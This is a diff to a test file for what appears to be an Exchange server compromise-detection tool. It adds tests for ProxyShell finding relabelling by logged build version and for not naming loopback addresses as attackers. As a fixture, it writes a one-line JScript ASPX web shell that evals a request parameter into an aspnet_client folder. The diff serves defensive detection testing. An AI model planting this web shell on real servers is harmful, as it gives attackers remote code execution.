@@ -156,9 +156,32 @@ reason = (r["verdict"] or {}).get("exhunt", {}).get("reason", "")
 if not reason.startswith("successful exploitation traces of ProxyShell"):
     fail("vulnerable build: the reason does not lead with ProxyShell: %s" % reason)
 
-# a log whose #Version names a build vulnerable to ProxyShell after the request: not relabelled
-# (the server was patched later); covered by the rule of patched_then, tested through the HttpProxy
-# #Version lines in test_e2e's sample tree, which stays ProxyShell.
+# the build at the request's time: an Exchange log whose #Version names a build vulnerable to
+# ProxyShell at or after the request means the server was patched later: not relabelled; a
+# vulnerable build seen only before the request changes nothing
+HP_FIELDS = "DateTime,ClientIpAddress,UrlStem,HttpStatus"
+
+
+def with_version(name, version, when):
+    root = tree(name, {"W3SVC1": (FIELDS, PS_LINES)}, build="15.1.2308.8")
+    d = os.path.join(root, EXV15, "Logging/HttpProxy/Owa")
+    os.makedirs(d)
+    with open(os.path.join(d, "HttpProxy_2022101000-1.LOG"), "w", newline="") as f:
+        f.write("#Software: Microsoft Exchange Server\r\n#Version: %s\r\n#Log-type: HttpProxy Logs\r\n"
+                "#Date: %s\r\n#Fields: %s\r\n%s,10.1.2.3,/owa/,200\r\n" % (version, when, HP_FIELDS, when))
+    return root
+
+
+r = scan(with_version("patched-later", "15.01.2176.002", "2022-10-10T12:00:00.000Z"))
+hits = of_rule(r, RULE_PROXYSHELL_OK)
+if len(hits) != 2 or any(level(h) != "critical" or "CVE-2021-34473" not in cves(h) for h in hits):
+    fail("a vulnerable build logged after the request: the ProxyShell findings were relabelled: %s"
+         % [(cves(h), level(h)) for h in hits])
+r = scan(with_version("patched-before", "15.01.2176.002", "2022-10-09T12:00:00.000Z"))
+hits = of_rule(r, RULE_PROXYSHELL_OK)
+if sorted(level(h) for h in hits) != ["critical", "medium"]:
+    fail("a vulnerable build logged only before the request: want the relabelling, got %s"
+         % [(cves(h), level(h)) for h in hits])
 
 # ---- the server's own addresses are not attackers -------------------------------------------
 OWN = "10.0.0.5"
@@ -177,12 +200,21 @@ r = scan(tree("hops", {
         iis("08:04:00", "POST", "/ecp/y.js", None, 443, None, OWN, "python-requests/2.25.1", 200),
     ]),
 }))
+shell = os.path.join(WORK, "hops", "C/inetpub/wwwroot/aspnet_client/system_web/a1.aspx")
+os.makedirs(os.path.dirname(shell))
+with open(shell, "w") as f:
+    f.write('<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>')
+r = scan(os.path.join(WORK, "hops"))
 own = {OWN, "127.0.0.1", "::1"}
+stories = [f["exhunt"]["story"] for f in r["findings"] if "story" in f.get("exhunt", {})]
+if not any("a1.aspx" in st and "the server itself (::1" in st for st in stories):
+    fail("the story of a shell requested through loopback does not say so: %s" % stories)
 for f in r["findings"]:
     if client(f) in own:
         fail("a finding names the server's own address %s as its client: %s" % (client(f), f["message"]))
-    if "story" in f.get("exhunt", {}) and any(a in f["exhunt"]["story"].split("from ")[-1] for a in own):
-        fail("a story names the server's own address as a client: %s" % f["exhunt"]["story"])
+    st = f.get("exhunt", {}).get("story", "")
+    if any(("from " + a) in st or ("by " + a) in st for a in own):
+        fail("a story names the server's own address as a client: %s" % st)
 for a in r["actors"]:
     if a["source"]["ip"] in own:
         fail("the server's own address %s is an attacker" % a["source"]["ip"])
